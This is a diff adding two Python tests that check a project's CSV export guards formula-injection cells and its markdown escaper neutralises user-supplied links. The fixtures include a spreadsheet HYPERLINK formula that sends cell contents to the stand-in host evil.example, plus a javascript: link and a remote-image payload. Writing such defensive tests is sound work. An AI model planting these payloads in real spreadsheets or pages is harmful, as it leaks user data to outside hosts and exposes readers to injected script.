@@ -368,3 +368,23 @@ def test_web_and_api_exports_pass_the_gate(world: Any, client: Any) -> None:
     assert "~bravo" in body and "~alpha" not in body
     api = client.get(f"/api/v1/fiscal-years/{world.year}/table/")
     assert api.status_code == 200 and api.content == response.content
+
+
+def test_csv_cells_that_would_run_as_formulas_are_guarded_and_round_trip() -> None:
+    from tatara.core.tabular import read_table, write_csv
+
+    cells = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "+1", "-2", "plain"]
+    data = write_csv(["text"], [[c] for c in cells])
+    lines = data.decode().splitlines()[1:]
+    assert all(line.lstrip('"').startswith("'") for line in lines[:4])
+    assert lines[4] == "plain"
+    table = read_table(io.BytesIO(data), name="guarded.csv", required=["text"])
+    assert [row.text("text") for row in table.rows] == cells
+
+
+def test_markdown_keeps_links_and_images_in_user_text_as_text() -> None:
+    from tatara.cycle.table_export import md_escape
+
+    escaped = md_escape("[click](javascript:alert(1)) ![x](http://evil.example/t.png)")
+    assert "[click]" not in escaped and "![x]" not in escaped
+    assert "\\[click\\]" in escaped
